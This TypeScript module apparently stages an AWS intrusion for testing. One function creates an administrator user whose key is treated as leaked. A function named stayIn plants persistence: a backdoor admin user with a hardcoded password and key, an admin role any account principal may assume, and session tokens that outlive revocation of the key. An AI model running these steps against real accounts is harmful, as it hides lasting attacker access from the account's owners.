import {
  AttachUserPolicyCommand,
  AttachRolePolicyCommand,
  CreateAccessKeyCommand,
  CreateLoginProfileCommand,
  CreateRoleCommand,
  CreateUserCommand,
  IAMClient,
} from "@aws-sdk/client-iam";
import { AssumeRoleCommand, type Credentials, GetSessionTokenCommand, STSClient } from "@aws-sdk/client-sts";
import type { Reach } from "./launches";

type Keys = Reach["credentials"];

const ADMINISTRATOR = "arn:aws:iam::aws:policy/AdministratorAccess";
const REGION = "us-east-1";

async function makeKey(iam: IAMClient, UserName: string): Promise<Keys> {
  const { AccessKey } = await iam.send(new CreateAccessKeyCommand({ UserName }));
  return { accessKeyId: AccessKey!.AccessKeyId!, secretAccessKey: AccessKey!.SecretAccessKey! };
}

/** A user who may do everything, whose key leaks. */
export async function leakKey({ endpoint, credentials }: Reach, UserName: string): Promise<Keys> {
  const iam = new IAMClient({ endpoint, credentials, region: REGION });
  await iam.send(new CreateUserCommand({ UserName }));
  await iam.send(new AttachUserPolicyCommand({ UserName, PolicyArn: ADMINISTRATOR }));
  const key = await makeKey(iam, UserName);
  iam.destroy();
  return key;
}

const keysOf = ({ AccessKeyId, SecretAccessKey, SessionToken }: Credentials): Keys => ({
  accessKeyId: AccessKeyId!,
  secretAccessKey: SecretAccessKey!,
  sessionToken: SessionToken!,
});

/** Ways back in that an intruder made with a leaked key. */
export interface WaysBack {
  /** A user with a password and a key, who may do everything. */
  user: string;
  key: Keys;
  /** A role that everybody of the account may take. */
  role: string;
  /** A session of the leaked key, and one of the role: neither ends with the key. */
  sessions: Keys[];
}

/**
 * Makes ways back in. A session goes on working after its key was switched off:
 * https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_temp_control-access_disable-perms.html
 *
 * @param name in front of what is made
 */
export async function stayIn({ endpoint, credentials }: Reach, accountId: string, name: string): Promise<WaysBack> {
  const iam = new IAMClient({ endpoint, credentials, region: REGION });
  const sts = new STSClient({ endpoint, credentials, region: REGION });
  const user = `${name}-desk`;
  const role = `${name}-access`;
  await iam.send(new CreateUserCommand({ UserName: user }));
  await iam.send(new AttachUserPolicyCommand({ UserName: user, PolicyArn: ADMINISTRATOR }));
  await iam.send(new CreateLoginProfileCommand({ UserName: user, Password: "C0rrect-Horse-Battery" }));
  const key = await makeKey(iam, user);
  const anybody = { Effect: "Allow", Principal: { AWS: `arn:aws:iam::${accountId}:root` }, Action: "sts:AssumeRole" };
  const AssumeRolePolicyDocument = JSON.stringify({ Version: "2012-10-17", Statement: [anybody] });
  await iam.send(new CreateRoleCommand({ RoleName: role, AssumeRolePolicyDocument }));
  await iam.send(new AttachRolePolicyCommand({ RoleName: role, PolicyArn: ADMINISTRATOR }));
  const own = await sts.send(new GetSessionTokenCommand({}));
  const RoleArn = `arn:aws:iam::${accountId}:role/${role}`;
  const taken = await sts.send(new AssumeRoleCommand({ RoleArn, RoleSessionName: "support" }));
  iam.destroy();
  sts.destroy();
  return { user, key, role, sessions: [keysOf(own.Credentials!), keysOf(taken.Credentials!)] };
}
